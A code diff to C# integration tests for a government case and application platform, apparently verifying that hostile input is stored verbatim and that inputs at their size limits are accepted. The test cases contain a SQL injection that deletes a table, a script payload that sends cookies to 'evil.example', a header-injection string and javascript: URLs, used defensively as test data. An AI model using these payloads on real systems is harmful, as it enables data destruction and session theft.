@@ -504,7 +504,8 @@ public sealed class HostileTextIsStoredVerbatimTests(CorpusPlatformFixture fixtu
             "/api/governance/v1/cases/{id}",
             [("category", "'; DELETE FROM cases; --"), ("description", "<script>fetch('//evil.example/'+document.cookie)</script>\r\nX-Injected: 1"),
              ("photoRefs", new[] { "javascript:alert(1)" })],
-            "governance.cases", ["governance.outbox_messages", "governance.audit_log", "governance.case_history"]),
+            // governance's hotspot detector reads every reported case (its own CaseReported)
+            "governance.cases", ["governance.outbox_messages", "governance.audit_log", "governance.case_history", "governance.inbox_messages"]),
         new("sql-and-template-injection-in-a-certification", "citizen", "/api/talent/v1/certifications",
             new
             {
@@ -526,9 +527,10 @@ public sealed class HostileTextIsStoredVerbatimTests(CorpusPlatformFixture fixtu
         new("script-in-a-reason-for-not-accepting", "clerk", A + "/{fresh}:notAccept",
             new { reason = "<script>alert(document.domain)</script> ' OR 1=1 --" },
             A + "/{fresh}", [("statusReason", "<script>alert(document.domain)</script> ' OR 1=1 --"), ("status", "APPLICATION_STATUS_NOT_ACCEPTED")],
-            // talent reads every refusal to accept, for the claims it asked approvals to open
+            // talent reads every refusal to accept, for the claims it asked approvals to open; governance, for the cases
+            // waiting on an application (flow 1)
             "approvals.application_ledger", ["approvals.outbox_messages", "approvals.inbox_messages", "approvals.notifications", "approvals.audit_log",
-                "talent.inbox_messages"],
+                "talent.inbox_messages", "governance.inbox_messages"],
             NeedsFreshApplication: true),
     ];
 
@@ -671,12 +673,15 @@ public sealed class ValidInputAtItsLimitsTests(CorpusPlatformFixture fixture)
     public async Task A_correction_notice_naming_fifty_long_materials_is_recorded_within_the_ledgers_column()
     {
         var id = await new ApplicationFactory(fixture, CorpusPlatformFixture.Home).SubmittedAsync(complete: false);
-        var materials = Enumerable.Range(0, 50).Select(i => $"{i:00} " + new string('m', 197)).ToArray();
+        // the most a notice takes: 49 long names and the one required material still missing (一次性告知: every one)
+        var materials = Enumerable.Range(0, 49).Select(i => $"{i:00} " + new string('m', 197)).Append("identity card").ToArray();
 
         await ApplicationFactory.ExpectOkAsync(fixture.Actor("clerk"), HttpMethod.Post, $"{A}/{id}:requestCorrection", new { materials });
 
         var application = await ApplicationFactory.ExpectOkAsync(fixture.Actor("citizen"), HttpMethod.Get, $"{A}/{id}");
-        Assert.Equal(materials, application.GetProperty("requestedCorrections").EnumerateArray().Select(m => m.GetString()));
+        var requested = application.GetProperty("requestedCorrections").EnumerateArray().Select(m => m.GetString()).ToArray();
+        Assert.Equal(materials.Length, requested.Length);
+        Assert.Equal(materials[..^1], requested[..^1]); // the catalogue's own material is answered in the caller's language
         Assert.Empty(SchemaFit.Violations(fixture.Platform.Services, fixture.DataDirectory));
     }
 
@@ -707,6 +712,8 @@ public sealed class ValidInputAtItsLimitsTests(CorpusPlatformFixture fixture)
             channel = "CHANNEL_ONLINE",
             materials = new[] { "application form" },
         })).GetProperty("id").GetString()!;
+        // named online, the form is only declared: the clerk sees the original at the counter
+        await ApplicationFactory.StepAsync(id, lead, "confirmOriginal", new { material = "application form" });
         await ApplicationFactory.StepAsync(id, lead, "accept", new { });
 
         // the longest reason a step takes: 500 characters
